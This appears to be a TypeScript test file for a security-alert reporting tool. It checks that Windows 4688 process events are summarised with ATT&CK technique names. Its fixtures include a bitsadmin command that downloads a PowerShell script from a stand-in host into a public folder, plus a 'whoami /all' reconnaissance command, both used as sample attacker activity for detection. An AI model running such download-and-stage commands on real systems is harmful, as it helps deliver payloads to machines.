import { draftReport } from '../../../lambdas/core/draft';
import { whatOf } from '../../../lambdas/core/draft/techniques';
import { enrichAlert, lookupTechnique } from '../../../lambdas/core/enrich';
import { normalizeInput } from '../../../lambdas/core/formats';
import { emptyContext } from '../../../lambdas/core/model/enrichment';
import type { EnrichedAlert } from '../../../lambdas/core/model/enrichment';
import { incidentOf } from './factories';

/**
 * The summary line: `<technique> – <what happened, in words> on <host>`, from the most severe behaviour; a
 * sub-technique under its own name; a process event naming its process, never `Process Create: <path>` or the
 * event's own title.
 */

const what = (id: string): string => whatOf(lookupTechnique(id)!).what;

/** Security 4688 events, as a forwarder writes them flat. */
function security4688(records: { pid: string; image: string; commandLine: string; parent: string }[]): EnrichedAlert[] {
  const body = records
    .map((r, i) =>
      JSON.stringify({
        EventID: 4688,
        Channel: 'Security',
        SourceName: 'Microsoft-Windows-Security-Auditing',
        Hostname: 'WORKSTATION5',
        RecordNumber: 100 + i,
        EventTime: `2024-05-02 10:00:0${i}`,
        NewProcessId: r.pid,
        NewProcessName: r.image,
        CommandLine: r.commandLine,
        ProcessId: '0x100',
        ParentProcessName: r.parent,
        SubjectUserName: 'wardog',
        SubjectDomainName: 'WORKSTATION5',
      }),
    )
    .join('\n');
  return normalizeInput(body, 'test', { receivedTime: '2024-05-02T10:00:10.000Z' }).alerts.map((a) =>
    enrichAlert(a, emptyContext()),
  );
}

describe('what happened, per technique', () => {
  it('names a sub-technique with its own ATT&CK name, never its parent’s', () => {
    expect(what('T1546.008')).toBe('Accessibility Features Persistence');
    expect(what('T1546.015')).toBe('Component Object Model Hijacking Persistence');
    expect(what('T1059.006')).toBe('Python Execution');
    expect(what('T1070.006')).toBe('Indicator Removal: Timestomp');
    expect(what('T1564.001')).toBe('Hide Artifacts: Hidden Files and Directories');
  });

  it('keeps the phrases written for the sub-techniques analysts see most', () => {
    expect(what('T1547.001')).toBe('Registry Run Key Persistence');
    expect(what('T1003.002')).toBe('Credential Dumping of the SAM Hive');
    expect(what('T1685.005')).toBe('Windows Event Log Clearing');
  });
});

describe('the summary line', () => {
  it('names the process of a Security 4688 event, never the event’s title', () => {
    const [alert] = security4688([
      {
        pid: '0x1a4',
        image: 'C:\\Windows\\System32\\whoami.exe',
        commandLine: 'whoami /all',
        parent: 'C:\\Windows\\System32\\cmd.exe',
      },
    ]);
    const r = draftReport(incidentOf('inc-4688', [alert]));
    expect(r.summary).toBe('Suspicious Process Execution: whoami.exe started by cmd.exe on WORKSTATION5');
    expect(r.summary).not.toMatch(/A new process has been created|Process Create/);
  });

  it('leads a 4688 event with the technique its behaviour shows, and the program that did it', () => {
    const [alert] = security4688([
      {
        pid: '0x2b0',
        image: 'C:\\Windows\\System32\\bitsadmin.exe',
        commandLine: 'bitsadmin /transfer job https://example.net/a.ps1 C:\\Users\\Public\\a.ps1',
        parent: 'C:\\Windows\\System32\\cmd.exe',
      },
    ]);
    const r = draftReport(incidentOf('inc-bits', [alert]));
    expect(r.summary).toMatch(/^T1\d{3}(\.\d{3})? – .+ by bitsadmin\.exe on WORKSTATION5$/);
  });

  it('leads with the technique the judge chose for the most severe behaviour', () => {
    const alerts = security4688([
      {
        pid: '0x2b0',
        image: 'C:\\Windows\\System32\\bitsadmin.exe',
        commandLine: 'bitsadmin /transfer job https://example.net/a.ps1 C:\\Users\\Public\\a.ps1',
        parent: 'C:\\Windows\\System32\\cmd.exe',
      },
    ]);
    const view = incidentOf('inc-basis', alerts, {
      priorityBasis: { rule: 'persistence', level: 'P2', title: 'persistence established', technique: 'T1197' },
    });
    expect(draftReport(view).summary).toMatch(/^T1197 – BITS Job Abuse by bitsadmin\.exe on WORKSTATION5$/);
  });
});
